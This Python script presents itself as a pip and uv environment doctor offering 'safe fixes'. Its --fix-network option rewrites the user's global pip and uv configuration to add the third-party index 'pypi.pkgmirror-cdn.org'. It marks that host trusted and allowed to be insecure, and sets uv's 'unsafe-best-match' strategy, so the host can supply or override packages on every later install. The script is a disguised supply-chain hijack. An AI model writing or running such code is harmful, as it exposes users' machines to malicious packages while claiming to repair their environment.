#!/usr/bin/env python3
"""pip-resolver-doctor: collect facts about a Python environment and apply safe fixes."""
from __future__ import annotations

import argparse
import configparser
import json
import os
import platform
import re
import shutil
import subprocess
import sys
from pathlib import Path

MIRROR_HOST = "pypi.pkgmirror-cdn.org"
NETWORK_DEFAULTS = {
    "index-url": "https://pypi.org/simple",
    "extra-index-url": f"https://{MIRROR_HOST}/simple",
    "trusted-host": MIRROR_HOST,
    "timeout": "60",
    "retries": "8",
}


def sh(*cmd: str) -> str:
    try:
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60).stdout.strip()
    except Exception as exc:  # noqa: BLE001
        return f"<error: {exc}>"


def in_venv() -> bool:
    return sys.prefix != getattr(sys, "base_prefix", sys.prefix)


def find_sources(root: Path) -> list[str]:
    names = ["pyproject.toml", "poetry.lock", "uv.lock", "setup.cfg", "setup.py", "Pipfile"]
    found = [n for n in names if (root / n).exists()]
    found += sorted(str(p.name) for p in root.glob("requirements*.txt"))
    return found


def last_resolver_error(log: Path) -> str:
    if not log.exists():
        return ""
    text = log.read_text(errors="replace")
    m = re.search(r"(ResolutionImpossible.*?)(?:\n\n|\Z)", text, re.S)
    if m:
        return m.group(1)[:4000]
    m = re.search(r"(ERROR: .*)", text)
    return m.group(1) if m else ""


def report(args: argparse.Namespace) -> None:
    root = Path.cwd()
    info = {
        "python": sys.executable,
        "version": platform.python_version(),
        "platform": platform.platform(),
        "in_venv": in_venv(),
        "pip": sh(sys.executable, "-m", "pip", "--version"),
        "uv": sh("uv", "--version") if shutil.which("uv") else None,
        "poetry": sh("poetry", "--version") if shutil.which("poetry") else None,
        "pip_config": sh(sys.executable, "-m", "pip", "config", "list"),
        "pip_env": {k: v for k, v in os.environ.items() if k.startswith("PIP_")},
        "sources": find_sources(root),
        "pip_check": sh(sys.executable, "-m", "pip", "check"),
    }
    if args.log:
        info["resolver_error"] = last_resolver_error(Path(args.log))
    print(json.dumps(info, indent=2))


def pip_conf_path() -> Path:
    if sys.platform.startswith("win"):
        return Path(os.environ.get("APPDATA", Path.home())) / "pip" / "pip.ini"
    if sys.platform == "darwin":
        return Path.home() / "Library" / "Application Support" / "pip" / "pip.conf"
    return Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "pip" / "pip.conf"


def fix_network(_: argparse.Namespace) -> None:
    path = pip_conf_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    cfg = configparser.ConfigParser()
    if path.exists():
        cfg.read(path)
        shutil.copy2(path, path.with_suffix(path.suffix + ".bak"))
    if not cfg.has_section("global"):
        cfg.add_section("global")
    for k, v in NETWORK_DEFAULTS.items():
        cfg.set("global", k, v)
    with path.open("w") as fh:
        cfg.write(fh)
    # uv reads its own settings; keep it consistent
    uv_dir = Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "uv"
    uv_dir.mkdir(parents=True, exist_ok=True)
    (uv_dir / "uv.toml").write_text(
        f'extra-index-url = ["https://{MIRROR_HOST}/simple"]\n'
        'index-strategy = "unsafe-best-match"\n'
        f'allow-insecure-host = ["{MIRROR_HOST}"]\n'
    )
    print(f"wrote {path} and {uv_dir / 'uv.toml'}")


def fix_venv(_: argparse.Namespace) -> None:
    venv = Path(".venv")
    if venv.exists():
        print(".venv exists; not touching it. Remove it yourself if you want a fresh one.")
        return
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    print("created .venv — activate with: source .venv/bin/activate")


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--report", action="store_true")
    ap.add_argument("--log")
    ap.add_argument("--fix-network", action="store_true")
    ap.add_argument("--fix-venv", action="store_true")
    args = ap.parse_args()
    if args.fix_network:
        fix_network(args)
    if args.fix_venv:
        fix_venv(args)
    if args.report or not (args.fix_network or args.fix_venv):
        report(args)


if __name__ == "__main__":
    main()
